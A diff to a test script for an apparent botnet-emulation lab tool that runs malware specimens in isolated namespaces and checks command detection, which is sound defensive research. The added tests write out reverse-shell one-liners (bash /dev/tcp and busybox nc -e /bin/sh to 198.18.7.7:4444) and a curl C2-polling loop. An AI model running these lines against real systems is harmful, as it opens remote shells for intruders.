@@ -32,13 +32,13 @@ drive() {
 		return
 	}
 	"$kage" lab exec --lab "$LAB" --as-device unshare --pid --fork --kill-child \
-		sh -c "$BUILD/specimens/$arch/$specimen; sleep 90" &
+		sh -c "${BOT:-$BUILD/specimens/$arch/$specimen}; sleep 90" &
 	bot=$!
 	wait_for 60 finished || diag "$specimen: not finished"
 	kill -KILL "$bot" 2>/dev/null # unshare takes no other
 	kill "$responder" 2>/dev/null
 	wait "$bot" "$responder" 2>/dev/null
-	rm -f /tmp/.{line,irc,poll,bin,shell}bot
+	rm -f /tmp/.{line,irc,poll,bin,shell,tutor}bot
 	[[ -z ${KEEP:-} ]] || cp "$journal" "$KEEP/$runs-$specimen.jsonl"
 }
 runs=0
@@ -134,5 +134,57 @@ drive linebot --profile line --set prefix='!* ' \
 said who 'My IP'
 is 'line: every command was sent' "$(events '.event_type == "command"' |
 	jq -r .command_info.name | paste -sd,)" 'UDP {target} {port} 2,who,NOTHING'
+
+# The tutorial: a profile that was written from lua-profiles/README.md alone.
+awk '/^```lua/ { on = 1; next } /^```/ { on = 0 } on' \
+	"$TOP/lua-profiles/README.md" >"$TMP/tutor.lua"
+drive tutorbot --profile "$TMP/tutor.lua"
+is 'tutorbot: every command was sent' "$(events '.event_type == "command"' |
+	jq -r .command_info.name | paste -sd,)" \
+	'ring,call,keep,stop keep,leaf,guess,bye'
+is 'tutorbot: three replies are as expected' \
+	"$(count '.note.kind == "reply" and .note.matched')" 3
+is 'tutorbot: hangs up after bye' "$(after bye)" 1
+
+# auto: the first bytes, or silence, choose the family.
+for pair in linebot:gafgyt vectorbot:mirai ircbot:tsunami pollbot:httpbot \
+	shellbot:shell; do
+	list=GETLOCALIP
+	case $pair in
+	vectorbot*) list=udp ;;
+	ircbot*) list=VERSION ;;
+	pollbot*) list=info ;;
+	shellbot*) list=id ;;
+	esac
+	drive "${pair%:*}" --profile auto --set only=$list
+	is "auto: ${pair%:*} is ${pair#*:}" "$(events '.event_type == "command"' |
+		jq -r .profile | sort -u)" "${pair#*:}"
+done
+
+# Real programs: a shell that bash or busybox dials out with, silent or not.
+# real COMMAND OPTION...: a bot of one line, which comes back every second.
+real() {
+	local command=$1
+	shift
+	printf '#!/bin/sh\nwhile :; do %s; sleep 1; done &\n' "$command" >"$TMP/bot"
+	chmod +x "$TMP/bot"
+	BOT=$TMP/bot drive real "$@"
+}
+real "bash -c 'exec bash -i >&/dev/tcp/198.18.7.7/4444 0>&1' 2>/dev/null" \
+	--profile shell --set only=id,uname,echo,nonsense
+said id 'uid='
+said echo 'kage42musha'
+real 'busybox nc 198.18.7.7 4444 -e /bin/sh' --profile auto --set only=id,echo
+said id 'uid='
+is 'a silent shell is found by its silence' \
+	"$(events '.event_type == "command"' | jq -r .profile | sort -u)" shell
+if command -v curl >/dev/null; then
+	real 'curl -s http://gate.real.example/gate?id=5' --profile httpbot \
+		--set only=info,udp
+	is 'curl in a loop is driven' "$(events '.event_type == "command"' |
+		jq -r .command_info.name | paste -sd,)" info,udp
+else
+	skip 'curl in a loop is driven' 'curl is not installed'
+fi
 
 lab down
